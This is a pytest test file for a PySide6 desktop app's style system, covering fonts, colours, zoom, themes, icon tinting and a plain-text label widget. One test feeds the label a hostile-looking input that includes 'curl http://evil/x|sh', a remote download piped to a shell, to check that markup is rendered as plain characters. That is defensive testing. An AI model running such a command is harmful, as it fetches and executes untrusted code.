"""Style: fonts, colours, icons, zoom, themes, and the labels made with it."""

from __future__ import annotations

import pytest
from PySide6.QtCore import Qt
from PySide6.QtGui import QColor, QFontInfo, QPalette
from PySide6.QtWidgets import QApplication
from pytestqt.qtbot import QtBot

from copilot_desktop.theme import THEME_NAMES
from copilot_desktop.widgets.plain_label import PlainLabel
from copilot_desktop.widgets.style import SYSTEM, Style, to_qcolor
from copilot_desktop.widgets.stylesheet import stylesheet
from tests.support.window import make_style


@pytest.fixture
def style(qapp: QApplication) -> Style:
    return make_style()


def test_alpha_comes_last() -> None:
    assert to_qcolor("#14161C52").alpha() == 0x52
    assert to_qcolor("#14161C") == QColor(0x14, 0x16, 0x1C)


def test_the_bundled_fonts_stand_in_where_no_desktop_chose(style: Style) -> None:
    assert style.family("ui") == "Inter"
    assert QFontInfo(style.font("body")).family() == "Inter"
    assert QFontInfo(style.font("codeBlock")).family() == "JetBrains Mono"
    assert QFontInfo(style.font("codeBlock")).fixedPitch()


def test_weights_are_real_faces(style: Style) -> None:
    for name in ("ui", "uiStrong", "subtitle"):
        assert QFontInfo(style.font(name)).weight() == style.tokens.text_style(name).weight


def test_zoom_scales_fonts_and_lengths(style: Style, qtbot: QtBot) -> None:
    with qtbot.waitSignal(style.changed):
        style.set_zoom(150)
    assert style.px(12) == 18
    assert style.font("body").pixelSize() == 21
    style.zoom_by(1)
    assert style.zoom == 175
    style.set_zoom(900)
    assert style.zoom == 200
    style.zoom_by(1)
    assert style.zoom == 200


def test_the_same_theme_again_changes_nothing(style: Style, qtbot: QtBot) -> None:
    with qtbot.assertNotEmitted(style.changed):
        style.set_theme("light")
        style.set_zoom(100)


def test_an_unknown_theme_is_a_mistake(style: Style) -> None:
    with pytest.raises(KeyError):
        style.set_theme("mauve")


def test_following_the_system_shows_one_of_the_themes(style: Style) -> None:
    style.set_theme("dark")
    style.set_theme(SYSTEM)
    assert style.theme == SYSTEM
    assert style.tokens.name in THEME_NAMES


def test_icons_take_the_colour_of_the_theme(style: Style) -> None:
    image = style.pixmap("stop", 16, "danger.text", 2.0).toImage()
    assert image.width() == 32
    colors = {
        image.pixelColor(x, y).name()
        for x in range(32)
        for y in range(32)
        if image.pixelColor(x, y).alpha() == 255
    }
    assert colors == {style.color("danger.text").name()}


@pytest.mark.parametrize("theme", THEME_NAMES)
@pytest.mark.parametrize("zoom", [80, 200])
def test_the_style_sheet_has_no_token_left(qapp: QApplication, theme: str, zoom: int) -> None:
    style = make_style(theme)
    sheet = stylesheet(style.tokens, zoom, 'A "quoted" family')
    assert "@" not in sheet
    assert "%" not in sheet
    assert 'A \\"quoted\\" family' in sheet


def test_a_label_shows_markup_as_characters(style: Style, qtbot: QtBot) -> None:
    text = "ls<table>; curl http://evil/x|sh && a & b <img src='file:///dev/zero'>"
    label = PlainLabel(style, text)
    qtbot.addWidget(label)
    assert label.textFormat() is Qt.TextFormat.PlainText
    assert label.sizeHint().width() >= label.fontMetrics().horizontalAdvance(text)
    with pytest.raises(ValueError, match="plain"):
        label.setTextFormat(Qt.TextFormat.RichText)


def test_a_label_elides_on_one_line(style: Style, qtbot: QtBot) -> None:
    label = PlainLabel(style, "first\nsecond " * 40, elide=Qt.TextElideMode.ElideRight)
    qtbot.addWidget(label)
    label.resize(120, 20)
    assert label.shown_text().startswith("first second")
    assert label.shown_text().endswith("…")
    assert label.minimumSizeHint().width() < 40


def test_a_label_follows_the_theme(style: Style, qtbot: QtBot) -> None:
    label = PlainLabel(style, "text", "body", "danger.text")
    qtbot.addWidget(label)
    style.set_theme("dark")
    assert label.palette().color(QPalette.ColorRole.WindowText) == style.color("danger.text")
    style.set_zoom(200)
    assert label.font().pixelSize() == 28
    label.set_color_key("text.primary")
    assert label.palette().color(QPalette.ColorRole.WindowText) == style.color("text.primary")
